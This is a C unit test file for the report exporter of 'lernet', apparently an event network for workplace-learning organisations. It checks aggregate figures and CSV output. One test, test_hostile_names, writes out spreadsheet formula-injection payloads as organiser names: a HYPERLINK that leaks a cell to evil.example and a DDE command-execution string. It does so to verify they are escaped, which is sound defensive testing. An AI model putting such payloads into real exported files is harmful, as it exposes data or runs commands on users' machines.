/*
 * test_report: the report's figures from a known data set of three
 * organisations: A's workshop in Stockholm (theme "workplace learning"),
 * B's meeting in Helsinki, A's cancelled workshop; C reports on A's workshop
 * (12 teachers, 7 company representatives), A on B's meeting (the same
 * counts); an event outside the period and a report about it do not count.
 * Then `lernet report --format csv` from the CLI.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "harness/harness.h"
#include "export/report.h"
#include "store/store.h"
#include "harness/testutil.h"

#define NET "nordic-wbl"
#define FEB_2027 1801440000LL /* 2027-02-01T00:00Z */

typedef struct fx {
    char *dir;
    store_t *st;
    keys_identity_t *a, *b, *c;
    event_t *heads[3];
} fx_t;

static event_t *add(fx_t *f, const keys_identity_t *k, int slot, Lernet__Payload *p)
{
    event_t *ev = tu_next(k, NET, f->heads[slot], p);
    assert_non_null(ev);
    int outcome = -1;
    assert_int_equal(store_add(f->st, ev, &outcome, NULL, NULL, 0), STORE_OK);
    assert_int_equal(outcome, STORE_APPLIED);
    event_free(&f->heads[slot]);
    f->heads[slot] = ev;
    tu_payload_free(p);
    return ev;
}

static json_t *run(fx_t *f, enum report_by by)
{
    report_t *r = NULL;
    store_query_t q = {.network = NET};
    assert_int_equal(report_new(&r, by, FEB_2027, FEB_2027 + 60 * 86400), 0);
    assert_int_equal(store_items(f->st, &q, (store_item_cb)report_add, r), 0);
    report_finish(r, f->st);
    json_t *rows = report_json(r);
    report_free(&r);
    return rows;
}

/* Who k is, in its key log, as `lernet init` publishes it. */
static void profile(fx_t *f, const keys_identity_t *k, const char *name, const char *country,
                    const char *municipality)
{
    Lernet__Profile pr = LERNET__PROFILE__INIT;
    Lernet__Payload p = LERNET__PAYLOAD__INIT;
    event_t *ev = NULL;
    pr.name = (char *)name, pr.country = (char *)country, pr.municipality = (char *)municipality;
    p.body_case = LERNET__PAYLOAD__BODY_PROFILE, p.profile = &pr;
    assert_int_equal(event_create(&ev, k, EVENT_LOG_KEYS, 1, NULL, event_now_ms(), &p, NULL, 0),
                     EV_OK);
    assert_int_equal(store_add(f->st, ev, NULL, NULL, NULL, 0), STORE_OK);
    event_free(&ev);
}

static json_int_t cell(json_t *rows, const char *key, const char *col)
{
    json_t *row;
    size_t i;
    json_array_foreach(rows, i, row)
        if (strcmp(json_string_value(json_object_get(row, "key")), key) == 0)
            return json_integer_value(json_object_get(row, col));
    fail_msg("no row %s", key);
    return -1;
}

static void test_figures(void **state)
{
    (void)state;
    fx_t f = {0};
    char path[600];
    f.dir = tu_tempdir();
    snprintf(path, sizeof path, "%s/store.db", f.dir);
    assert_int_equal(store_open(&f.st, path, NULL, 0), STORE_OK);
    keys_generate(&f.a), keys_generate(&f.b), keys_generate(&f.c);
    profile(&f, f.a, "Lärcentrum Östhammar", "SE", "Östhammar");
    profile(&f, f.b, "Tampere Oppimiskeskus", "FI", "Tampere");
    profile(&f, f.c, "OWL Lernregion", "DE", "Bielefeld");
    /* add() keeps only each author's latest event: copy ids at once */
    uint8_t ws_id[EVENT_ID_BYTES], mt_id[EVENT_ID_BYTES];
    event_t *ws = add(&f, f.a, 0, tu_workshop("Arbetsplatslärande", "Workplace", FEB_2027 + 86400 * 8));
    memcpy(ws_id, ws->id, EVENT_ID_BYTES);
    Lernet__Payload *mp = tu_meeting("Verkostotapaaminen", FEB_2027 + 86400 * 30);
    free(mp->meeting->tz);
    mp->meeting->tz = strdup("Europe/Helsinki");
    event_t *mt = add(&f, f.b, 1, mp);
    memcpy(mt_id, mt->id, EVENT_ID_BYTES);
    event_t *gone = add(&f, f.a, 0, tu_workshop("Inställd", "Cancelled", FEB_2027 + 86400 * 9));
    uint8_t gone_id[EVENT_ID_BYTES];
    memcpy(gone_id, gone->id, EVENT_ID_BYTES);
    add(&f, f.a, 0, tu_cancel(gone_id, "Snöstorm"));
    add(&f, f.c, 2, tu_experience(ws_id, "Erfahrungen"));
    add(&f, f.a, 0, tu_experience(mt_id, "Erfarenheter"));
    event_t *late = add(&f, f.b, 1, tu_workshop("Senare", "Later", FEB_2027 + 86400 * 200));
    uint8_t late_id[EVENT_ID_BYTES];
    memcpy(late_id, late->id, EVENT_ID_BYTES);
    add(&f, f.c, 2, tu_experience(late_id, "Utanför perioden"));

    json_t *rows = run(&f, REPORT_BY_ROLE);
    assert_int_equal(cell(rows, "total", "workshops"), 1);
    assert_int_equal(cell(rows, "total", "meetings"), 1);
    assert_int_equal(cell(rows, "total", "cancelled"), 1);
    assert_int_equal(cell(rows, "total", "organisations"), 3);
    assert_int_equal(cell(rows, "total", "experience_reports"), 2);
    assert_int_equal(cell(rows, "total", "participants"), 38);
    /* C (DE) reported on A's workshop (SE), A on B's meeting (FI) */
    assert_int_equal(cell(rows, "total", "crossed_national_border"), 2);
    assert_int_equal(cell(rows, "total", "crossed_municipal_border"), 2);
    assert_int_equal(cell(rows, "teachers", "participants"), 24);
    assert_int_equal(cell(rows, "company representatives", "participants"), 14);
    json_decref(rows);
    rows = run(&f, REPORT_BY_COUNTRY);
    assert_int_equal(cell(rows, "SE", "workshops"), 1);
    assert_int_equal(cell(rows, "SE", "cancelled"), 1);
    assert_int_equal(cell(rows, "SE", "participants"), 19);
    assert_int_equal(cell(rows, "SE", "organisations"), 2); /* A organised, C reported */
    assert_int_equal(cell(rows, "FI", "meetings"), 1);
    assert_int_equal(cell(rows, "SE", "crossed_national_border"), 1);
    assert_int_equal(cell(rows, "FI", "crossed_national_border"), 1);
    json_decref(rows);
    rows = run(&f, REPORT_BY_MONTH);
    assert_int_equal(cell(rows, "2027-02", "workshops"), 1);
    assert_int_equal(cell(rows, "2027-03", "meetings"), 1);
    json_decref(rows);
    rows = run(&f, REPORT_BY_THEME);
    assert_int_equal(cell(rows, "workplace learning", "workshops"), 1);
    json_decref(rows);
    for (int i = 0; i < 3; i++)
        event_free(&f.heads[i]);
    keys_free(&f.a), keys_free(&f.b), keys_free(&f.c);
    store_close(&f.st);
    tu_rmtree(&f.dir);
}

/* Organiser names from the network: a formula must not run in a
 * spreadsheet, and long names that differ only past byte 158 (a two-byte
 * letter astride it) stay two rows, neither dropped nor merged. */
static void test_hostile_names(void **state)
{
    (void)state;
    static const char *names[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")",
                                  "+cmd|' /C calc'!A0", "@SUM(1+1)", NULL, NULL};
    char long1[EVENT_MAX_SHORT + 1], long2[EVENT_MAX_SHORT + 1], *buf = NULL;
    size_t len = 0;
    fx_t f = {0};
    f.dir = tu_tempdir();
    snprintf(long1, sizeof long1, "%0158d\xc3\xa9Z", 0); /* 158 digits, é, Z */
    snprintf(long2, sizeof long2, "%0158d\xc3\xa9Y", 0);
    names[3] = long1, names[4] = long2;
    char path[600];
    snprintf(path, sizeof path, "%s/store.db", f.dir);
    assert_int_equal(store_open(&f.st, path, NULL, 0), STORE_OK);
    keys_generate(&f.a);
    for (int i = 0; i < 5; i++) {
        Lernet__Payload *p = tu_workshop("Arbetsplatslärande", NULL, FEB_2027 + 86400 * (i + 1));
        free(p->workshop->organiser);
        p->workshop->organiser = strdup(names[i]);
        add(&f, f.a, 0, p);
    }
    json_t *rows = run(&f, REPORT_BY_ORG);
    assert_non_null(rows);
    assert_int_equal(json_array_size(rows), 6); /* five organisers and the total */
    assert_int_equal(cell(rows, long1, "workshops"), 1);
    assert_int_equal(cell(rows, long2, "workshops"), 1);
    FILE *out = open_memstream(&buf, &len);
    report_write_csv(rows, out);
    fclose(out);
    assert_non_null(strstr(buf, "\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klicka\"\")\",1,"));
    assert_non_null(strstr(buf, "\n\"'+cmd|' /C calc'!A0\",1,"));
    assert_non_null(strstr(buf, "\n\"'@SUM(1+1)\",1,"));
    assert_null(strstr(buf, "\n="));
    assert_null(strstr(buf, "\n+"));
    free(buf);
    json_decref(rows);
    event_free(&f.heads[0]);
    keys_free(&f.a);
    store_close(&f.st);
    tu_rmtree(&f.dir);
}

static void test_csv_from_cli(void **state)
{
    (void)state;
    hnode_t A;
    char *out = NULL;
    assert_int_equal(h_node_init(&A, "Lärcentrum Östhammar", "SE", NET), 0);
    assert_int_equal(h_publish_workshop(&A, "Arbetsplatslärande", NET), 0);
    assert_int_equal(h_lernet(&A, &out, "report --by month --format csv"), 0);
    assert_non_null(strstr(out, "key,workshops,meetings,cancelled,organisations,"
                                "crossed_municipal_border,crossed_national_border,"
                                "experience_reports,participants\n"));
    assert_non_null(strstr(out, "\ntotal,1,0,0,1,0,0,0,0\n"));
    free(out);
    assert_int_equal(h_lernet(&A, NULL, "report --by planet 2>/dev/null"), 2);
    h_node_free(&A);
}

int main(void)
{
    keys_init();
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_figures),
                                       cmocka_unit_test(test_hostile_names),
                                       cmocka_unit_test(test_csv_from_cli)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
